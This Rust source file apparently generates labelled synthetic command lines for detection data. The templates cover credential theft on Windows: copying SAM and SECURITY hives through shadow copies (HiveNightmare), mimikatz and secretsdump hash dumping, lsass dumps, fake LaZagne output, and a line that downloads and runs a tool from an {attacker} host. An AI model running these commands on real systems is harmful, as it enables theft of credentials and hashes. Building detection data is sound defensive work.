//! More tools and idioms: shadow copies with the hive in one line, HiveNightmare and its like,
//! backup privilege, raw volume readers, archivers, restore points; and their benign uses.

use crate::generate::family::{Family, Kind::Cmd, Kind::Console};

const NIGHTMARE: &[&str] = &[
    concat!(
        "for «/l %i in (1,1,{5..30}) do¦/L %%i in (1,1,{5..30}) do» @«type¦copy» ",
        r"\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy%i\{t} {outfile}« 2>nul»"
    ),
    concat!(
        r"for %i in (1 2 3 4 5« 6 7 8») do if exist \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy%i\{t} ",
        r"copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy%i\{t} {outdir}"
    ),
    "{tool}« {1..30}¦ {dir}¦ -o {dir}¦ > {outfile}»",
    "{tool} && dir «*-20*¦SAM-*» && {ex}",
    concat!(
        r#"powershell -c "1..{5..20} | % { [IO.File]::Copy(\"\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy"#,
        r#"$_\{t}\", \"{dir}\{stem}$_\") }""#
    ),
    concat!(
        r#"vssadmin list shadows | find "Volume:" & copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy{1.."#,
        r"9}\{t} {outdir}"
    ),
    concat!(
        r#"«7z¦"C:\Program Files\7-Zip\7z.exe"» e \\.\globalroot\device\HarddiskVolumeShadowCopy{1..9}\{t} "#,
        "-o{dir}"
    ),
    concat!(
        "«certutil -encode¦certutil.exe -encodehex -f¦expand¦extrac32 /y /c¦makecab» ",
        r"\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy{1..9}\{t} {outfile}"
    ),
    concat!(
        r#"«python¦py» -c "open('{stem}','wb').write(open(r'\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy{"#,
        r#"1..9}\{t}','rb').read())""#
    ),
    r"«esentutl¦esentutl.exe» /y \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy{1..9}\{t} /d {outfile}",
    concat!(
        r"mklink /d {link.1} \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy{1..9}\ && «copy¦xcopy /h¦type¦",
        r"robocopy /b» {link.1}\{t} {outfile}« && rmdir {link.1}»"
    ),
    concat!(
        r"«vshadow¦vshadow.exe» -nw -p C: & «vshadow -el={GUID},{alnum1.2}: & »copy {alnum1.2}:\{t} ",
        "{outdir}"
    ),
    concat!(
        r"vshadow.exe -nw -exec={dir}\{stem.1}.cmd C: & rem {stem.1}.cmd: copy %SHADOW_DEVICE_1%\{t} ",
        "{outdir}"
    ),
    concat!(
        r#"wmic shadowcopy call create Volume='C:\' & for /f "skip=1" %d in ('wmic shadowcopy get "#,
        r"DeviceObject') do copy %d\{t} {outfile}"
    ),
    concat!(
        r"net use \\127.0.0.1\C$ & copy \\127.0.0.1\C$\@GMT-{year}.0{1..9}.{10..28}-{10..23}.{10..59}.{10.",
        r".59}\{t} {outdir}"
    ),
    concat!(
        r"dir \\localhost\C$\@GMT-{year}.1{0..2}.{10..28}-{10..23}.{10..59}.{10..59}\{td} & copy ",
        r"\\localhost\C$\@GMT-{year}.1{0..2}.{10..28}-{10..23}.{10..59}.{10..59}\{t} ."
    ),
    r"ShadowSpawn.exe C:\ {alnum1.2}: cmd /c copy {alnum1.2}:\{t} {outdir}",
    concat!(
        "wbadmin start recovery -version:{10..12}/{10..28}/{year}-{10..23}:{10..59} -itemType:File ",
        r"-items:C:\{t} -recoveryTarget:{dir} -notRestoreAcl -quiet"
    ),
    concat!(
        r#"«ntdsutil¦ntdsutil.exe» snapshot "activate instance ntds" create "mount {GUID}" quit quit & "#,
        r"«copy¦robocopy /b» C:\$SNAP_{digit12}_VOLUMEC$\{t} {outfile}"
    ),
    r"hobocopy C:\{td} {dir} {tb}",
];

const RAW: &[&str] = &[
    concat!(
        r"«RawCopy¦RawCopy64.exe¦rawcopy.exe» /FileNamePath:C:\{t} /OutputPath:{dir} ",
        "«/OutputName:{outname}»"
    ),
    concat!(
        "«RawCopy64.exe¦RawCopy.exe» /FileNamePath:C:0 /OutputPath:{dir} & RawCopy64.exe ",
        r"/FileNamePath:C:\{t} /OutputPath:{dir}"
    ),
    r"«Invoke-NinjaCopy¦ninjacopy.exe» «-Path »C:\{t} «-LocalDestination »{outfile}",
    r"«dd.exe¦dd» if=\\.\C: of={outfile} bs=4096 skip={10000..9999999} count={10..4000} & rem {t}",
    r"«fsutil volume querycluster¦fsutil file queryextents» C:\{t} & «dd¦nfi» \\.\C: {outfile}",
    r"«hxd¦disk editor¦DMDE.exe»: opened C:\{t}, saved as {outfile}",
    r"robocopy «/b¦/zb» C:\{td} {dir} {tb}« /r:0 /w:0»",
    r"«Robocopy.exe¦ROBOCOPY¦robocopy» C:\{td} \\{host}\{share} {tb} {tb2} «/B¦/ZB» /COPY:DAT",
    concat!(
        r"«diskshadow¦wbadmin start backup -backuptarget:{link.1} -include:C:\{t} -quiet»⏎copy ",
        r"{link.1}\{t} {outdir}"
    ),
    r"«fget.exe¦fget» -extract C:\{t} {outfile}",
    "«mtftar¦mft2tar¦ntfsundelete.exe» C: {t} {outfile}",
    concat!(
        r"«wim¦wimlib-imagex.exe¦wimcapture» capture C:\{td} {stem}.wim --snapshot & wimextract ",
        "{stem}.wim 1 {tb}"
    ),
    "«vssenum¦vss_carver¦shadowexplorer» «-e ¦»{t} {dir}",
    r"«forecopy_handy.exe¦forecopy» -f C:\{t} {dir}",
    r"«TSCopy¦tscopy_x64.exe» -f C:\{t} -o {dir}",
    r"«BackupCopy¦SeBackupPrivilegeCmdLets»: Copy-FileSeBackupPrivilege C:\{t} {outfile} -Overwrite",
    concat!(
        r"Import-Module .\SeBackupPrivilegeCmdLets.dll; Set-SeBackupPrivilege; Copy-FileSeBackupPrivilege ",
        r"C:\{t} {outfile}"
    ),
    r"{dir}\{alnum5}.exe --raw C:\{t} --out {outfile}",
    r"«lsof¦handle.exe» C:\{t} & «unlocker.exe /copy¦LockHunter.exe /x /copyto:{dir}» C:\{t}",
    r"type C:\{t} > {dir}\{stem}.txt:{tb}",
];

const RESTOREPOINT: &[&str] = &[
    concat!(
        r#"«copy¦xcopy¦type» "C:\System Volume Information\_restore{{GUID}}\RP{1..300}\snapshot\{rp}"« "#,
        "{outfile}»"
    ),
    concat!(
        r"copy C:\«System Volume Information\_restore{{GUID}}\RP{1..300}\snapshot\{rp}¦",
        r"ERDNT\{isodate}\{ern}¦Windows\ERDNT\cache\{ern}¦Windows\ERUNT\{ern}» {outdir}"
    ),
    r"«erunt.exe¦ERUNT» {dir}\{stem} {er}",
    r#"dir /s /b "C:\System Volume Information" | findstr {rp} & copy {rp} {outdir}"#,
    r"«ERUNT\autobackup.exe¦autoback.exe» {dir} {er} /noconfirmdelete",
    r#"esentutl /y /vss "C:\Windows.old\Windows\{te}" /d {outfile}"#,
    r#"copy "C:\Windows.old\Windows\{te}" {outfile}"#,
    r"«xcopy /h /y¦robocopy /b¦move» C:\Windows.old\Windows\{te}« {outdir}»",
    r"icacls C:\Windows.old\Windows\{te} /grant {user}:R & copy C:\Windows.old\Windows\{te} {outfile}",
    concat!(
        r"takeown /f D:\Windows\{te} & icacls D:\Windows\{te} /grant administrators:F & copy ",
        r"D:\Windows\{te} {outdir}"
    ),
];

const ACTS: &[(&str, &str)] = &[
    (
        "t",
        concat!(
            r"«Windows\System32\config\{whole}¦Windows\System32\config\SAM¦windows\system32\config\sam¦",
            r"Windows\System32\config\RegBack\SAM¦Windows\repair\SAM»"
        ),
    ),
    ("td", r"Windows\System32\config"),
    ("tb", "«SAM¦sam¦SECURITY¦SAM SYSTEM¦SAM SECURITY SYSTEM»"),
    ("tb2", "«SYSTEM¦SECURITY¦»"),
    ("te", r"System32\config\{secret}"),
    ("rp", "«_REGISTRY_MACHINE_SAM¦_REGISTRY_MACHINE_SECURITY¦_REGISTRY_MACHINE_SYSTEM»"),
    ("er", "«sam security system¦sam¦sysreg # SAM»"),
    ("ern", "«SAM¦SECURITY»"),
    (
        "tool",
        concat!(
            r"«HiveNightmare¦HiveNightmare.exe¦.\HiveNightmare.exe¦SeriousSAM.exe¦serioussam¦",
            "CVE-2021-36934.exe¦ShadowSteal.exe¦shadowsteal¦Invoke-HiveNightmare¦python SeriousSam.py¦",
            r"hivenightmare.ps1¦{dir}\HiveNightmare.exe¦HiveNightmare_x64.exe¦PSHiveNightmare.ps1»"
        ),
    ),
    (
        "ex",
        concat!(
            r#"«secretsdump.py -sam SAM-{isodate} -system SYSTEM-{isodate} LOCAL¦mimikatz "lsadump::sam "#,
            r#"/system:SYSTEM-{isodate} /sam:SAM-{isodate}" exit¦move SAM-* {dir}»"#
        ),
    ),
];

const OTHERS: &[(&str, &str)] = &[
    (
        "t",
        concat!(
            r"«Windows\NTDS\ntds.dit¦Users\{user}\Documents\{stem}.docx¦Windows\System32\config\SOFTWARE¦",
            r"Windows\System32\winevt\Logs\Security.evtx¦Users\sam\{stem}.kdbx¦{stem}\{stem}.mdf¦",
            r"Users\{user}\NTUSER.DAT¦inetpub\wwwroot\web.config»"
        ),
    ),
    ("td", r"«Windows\NTDS¦Users\{user}\Documents¦{stem}¦inetpub\wwwroot»"),
    ("tb", "«ntds.dit¦*.docx¦{stem}.mdf¦NTUSER.DAT¦sample.txt¦Security.evtx»"),
    ("tb2", "«edb.chk¦{stem}.log¦»"),
    (
        "te",
        concat!(
            r"«System32\config\SOFTWARE¦System32\config\systemprofile\{stem}.txt¦NTDS\ntds.dit¦",
            r"System32\drivers\etc\hosts¦Panther\unattend.xml»"
        ),
    ),
    ("rp", "«_REGISTRY_MACHINE_SOFTWARE¦_REGISTRY_USER_NTUSER_{sid}¦_REGISTRY_USER_.DEFAULT»"),
    ("er", "«otherusers¦curuser»"),
    ("ern", r"«SOFTWARE¦DEFAULT¦Users\00000001\NTUSER.DAT»"),
    (
        "tool",
        concat!(
            "«sam-the-admin.py {domain}/{user}:{password} -dc-ip {ip}¦noPac.exe scan -domain {domain}¦",
            r"PrintNightmare.exe {dir}\{stem}.dll¦CVE-2021-1675.exe¦SharpPrintNightmare.exe¦python ",
            "cve-2021-34527.py¦ShadowExplorer.exe¦CVE-2021-40444.py¦SpoolFool.exe¦InstallerFileTakeOver.exe¦",
            r".\SharpShadow.exe list¦Invoke-Nightmare -NewUser {user}»"
        ),
    ),
    ("ex", "«type {stem}.txt¦whoami¦secretsdump.py -just-dc {user}@{ip}»"),
];

const DUMPRUN: &[&str] = &[
    "{d}« > {outfile}¦ >> {stem}.txt¦ 2>&1¦ | findstr 500»",
    r"{dir}\{d}",
    r#"cmd /c "{dir}\{d}"« > {outfile}»"#,
    "start /min {d}« ^> {outfile}»",
    "cd {dir} & {d}",
    "{d}⏎{hashline}",
    r"copy \\{attacker}\{share}\{b} {dir} & {dir}\{d}",
    concat!(
        "«certutil -urlcache -split -f¦curl -o {b}¦bitsadmin /transfer {alnum4}» http://{attacker}/{b}« ",
        r"{dir}\{b}» & {d}"
    ),
    r"{psexec} \\{host} -s -c {d}",
    r"rundll32.exe {dir}\{stem}.dll,{exp}",
    r"regsvr32 /s /n /i:{exp} {dir}\{stem}.dll",
    "execute-assembly {d}",
    r#""{dir}\{b}" {args}"#,
];

const HASHLINE: &str = concat!(
    "Administrator:500:«{HEX32}¦NO PASSWORD*********************¦",
    "aad3b435b51404eeaad3b435b51404ee»:{HEX32}:::«⏎Guest:501:NO PASSWORD*********************:NO ",
    "PASSWORD*********************:::»"
);

const OTHERLINE: &str = concat!(
    "«{user}:{domain}:{HEX32}:{HEX32}¦{user}::{domain}:{hex16}:{hex32}:{hex64}¦",
    "$krb5tgs$23$*{user}${domain}$*${hex32}¦{user}:{password}¦{hex32}  {stem}.exe»"
);

/// What LaZagne prints, a block for each kind of secret.
const LAZAGNE: &[&str] = &[
    concat!(
        "«|====================================================================|⏎|                        The LaZagne Project                         |⏎",
        "|                          ! BANG BANG !                             |⏎|====================================================================|⏎⏎»",
        "########## User: «SYSTEM¦{user}» ##########⏎⏎{block}⏎⏎«{other}⏎⏎»[+] {1..40} passwords have been found."
    ),
    "{other}⏎⏎{block}«⏎⏎{other}»",
    "{block}",
];
const FOUND: &str = concat!(
    "------------------- «Firefox¦Google chrome¦Wifi¦Credman¦Vault¦Winscp¦Lsa_secrets¦Cachedump» passwords -----------------⏎⏎[+] Password found !!!⏎«URL: ",
    "https://{company}.com⏎»Login: {user}⏎Password: {password}"
);

pub const FAMILIES: &[Family] = &[
    Family::act("lazagne", "lazagne-hashdump", "lazagne-other", Console, LAZAGNE).slots(&[
        ("block", "------------------- Hashdump passwords -----------------⏎⏎[+] «Password found !!!¦Hash found !!!»⏎{hashline}«⏎{hashline}»"),
        ("other", FOUND), ("hashline", HASHLINE),
    ]).weight(4),
    Family::other("lazagne", "lazagne-other", Console, LAZAGNE).slots(&[
        ("block", FOUND), ("other", FOUND),
    ]).weight(5),
    Family::act("shadow-idioms", "shadow-idioms-hive", "shadow-idioms-other", Cmd, NIGHTMARE).slots(ACTS).weight(18),
    Family::other("shadow-idioms", "shadow-idioms-other", Cmd, NIGHTMARE).slots(OTHERS).weight(14),
    Family::act("raw-idioms", "raw-idioms-hive", "raw-idioms-other", Cmd, RAW).slots(ACTS).weight(12),
    Family::other("raw-idioms", "raw-idioms-other", Cmd, RAW).slots(OTHERS),
    Family::act("restore-points", "restore-point-hive", "restore-point-other", Cmd, RESTOREPOINT).slots(ACTS).weight(7),
    Family::other("restore-points", "restore-point-other", Cmd, RESTOREPOINT).slots(OTHERS).weight(6),
    Family::act("hash-tools", "hash-tools-local", "hash-tools-other", Cmd, DUMPRUN).slots(&[
        ("d", concat!("«pwdump{6..8}.exe¦PwDump7.exe¦pwdump6.exe -o {stem}.txt {host}¦pwdump -n localhost¦pwdump8.exe ", "--ssam -f {samcopyname}¦fgdump.exe -v -h {host} -u {user} -p {password}¦fgdump -c -s -l ", "{stem}.log¦gsecdump.exe -«a¦s»¦gsecdump-v2b5.exe -s¦QuarksPwDump.exe --dump-hash-local¦", "quarkspwdump.exe -dhl -o {stem}¦SharpSecDump.exe -target={ip} -u={user} -p={password} ", "-d={domain}¦SharpSecDump.exe -target=localhost¦SharpSAMDump.exe¦SharpSam.exe dump¦SamDump.exe¦", "DumpSAM.exe /all¦goSecDump.exe -t {ip} -u {user} -p {password}¦GoSecDump -target {ip}¦", "RegSecretsDump.exe¦NTHASH-win64 dumphash¦nthash.exe dumpsam¦hashdump.exe -l¦samdump.exe¦", "SAMInside.exe -import local¦cain -dump-sam¦creddump.exe --sam¦hive_dump.exe SAM SYSTEM¦", "lazagne.exe windows -hashdump¦laZagne.exe hashdump¦pypykatz.exe live registry¦PWDumpX -clph ", r"{ip} {user} {password}¦SafetyDump.exe sam¦RegSave.exe HKLM\SAM {outfile}¦secretsdump.exe ", "{user}:{password}@127.0.0.1¦Mimikatz.exe lsadump::sam exit»")),
        ("b", "«pwdump7.exe¦fgdump.exe¦gsecdump.exe¦PwDump6.exe¦samdump.exe¦SharpSecDump.exe»"),
        ("exp", "«DumpSAM¦SamDump¦DumpHashes SAM¦SaveSam¦hashdump»"),
        ("args", "«-dump sam¦--sam¦-local¦localhost»"),
        ("hashline", HASHLINE),
    ]).weight(14),
    Family::other("hash-tools", "hash-tools-other", Cmd, DUMPRUN).slots(&[
        ("d", concat!("«procdump.exe -ma lsass.exe {stem}¦wce.exe -«l¦w¦s {user}:{domain}:{hashes}»¦lsadump2.exe¦", "gsecdump.exe -«l¦u¦w»¦QuarksPwDump.exe --dump-hash-domain --ntds-file ntds.dit¦SharpDPAPI.exe ", "triage¦SharpChrome.exe logins¦Seatbelt.exe -group=user¦Rubeus.exe «dump¦triage¦kerberoast ", "/outfile:{stem}»¦InternalMonologue.exe¦Internal-Monologue.exe -Downgrade False¦lazagne.exe ", "«browsers¦wifi¦all -quiet -memory»¦NetSess.exe {host}¦nthash.exe dumpprocess lsass¦", "cachedump.exe -v¦SharpLAPS.exe /host:{ip}¦hashcat.exe -m 1000 {stem}.txt rockyou.txt¦john.exe ", "--show {stem}.txt¦hashdeep.exe -r {dir}¦pwdumpstats.py {stem}.txt¦md5sum.exe {stem}¦SamSite.exe ", "--port {port}¦sampctl.exe build¦hashmyfiles.exe /folder {dir}¦heapdump.exe {pid}¦mysqldump.exe ", "-u root {stem}¦Mimikatz.exe lsadump::secrets exit¦Mimikatz.exe lsadump::cache exit¦nanodump.exe ", r"-w {stem}¦SharpHound.exe -c All¦KeeThief.exe¦RegSave.exe HKLM\SOFTWARE {outfile}¦", "secretsdump.exe -just-dc {user}:{password}@{ip}¦creddump.exe --lsa¦dumpert.exe¦", "ldapdomaindump.exe -u {user} {ip}»")),
        ("b", "«procdump.exe¦hashcat.exe¦SharpHound.exe¦wce.exe¦samtools.exe¦pwgen.exe¦lazagne.exe¦Rubeus.exe»"),
        ("exp", "«MiniDump¦DumpProcess¦DllRegisterServer¦Start¦SaveConfig»"),
        ("args", "«-dump lsass¦--help¦-local¦localhost¦--config {stem}»"),
        ("hashline", OTHERLINE),
    ]).weight(14),
];
